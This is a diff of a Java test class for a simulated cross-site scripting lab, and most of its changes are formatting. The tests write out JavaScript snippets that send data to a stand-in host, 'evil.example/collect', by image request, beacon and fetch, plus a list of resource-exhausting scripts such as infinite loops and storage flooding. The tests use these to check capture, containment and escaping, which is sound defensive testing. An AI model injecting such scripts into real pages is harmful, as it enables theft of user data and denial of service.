@@ -151,7 +151,7 @@ class PageScriptsTest {
                 new Header("Sec-Fetch-Site", "cross-site"), new Header("Origin", "https://shop.example"),
                 new Header("Content-Type", "text/plain;charset=UTF-8"));
         assertThat(lab.world().loot().values()).extracting(Loot::value, Loot::source)
-                .containsExactly(org.assertj.core.groups.Tuple.tuple("hello", "xss:text"));
+                .containsExactly(org.assertj.core.groups.Tuple.tuple("hello", "xss.text"));
     }
 
     @Test
@@ -179,8 +179,9 @@ class PageScriptsTest {
         runs("new Image().src = 'https://evil.example/collect?v=' + encodeURIComponent('by image');"
                 + " navigator.sendBeacon('https://evil.example/collect', 'by beacon');");
         assertThat(lines()).containsExactly("GET /posts/1", "GET /collect", "POST /collect");
-        assertThat(lab.world().loot().values()).extracting(Loot::value).containsExactlyInAnyOrder("by image",
-                "by beacon");
+        assertThat(lab.world().loot().values()).extracting(Loot::value)
+                .containsExactlyInAnyOrder("by image",
+                        "by beacon");
     }
 
     @Test
@@ -216,7 +217,7 @@ class PageScriptsTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = { "for (;;) {}", "function f() { setTimeout(f, 0); } f();",
+    @ValueSource(strings = {"for (;;) {}", "function f() { setTimeout(f, 0); } f();",
             "for (;;) fetch('/products')", "for (var i = 0;; i++) localStorage.setItem('k' + i, 'v')",
             "for (;;) console.log('x')", "'x'.repeat(1e9)", "function g() { Promise.resolve().then(g); } g();" })
     void aHostileScriptIsStoppedAndHarmsNothing(String script) {
@@ -247,7 +248,7 @@ class PageScriptsTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = { "mode=session", "mode=jwt+refresh" })
+    @ValueSource(strings = {"mode=session", "mode=jwt+refresh" })
     void aCommentIsTextWhereItIsEscaped(String mode) {
         restart("mode", mode.substring(5), "escapeOutput", "on");
         runs("console.log('ran'); fetch('https://evil.example/collect', {method: 'POST', body: 'x'})");
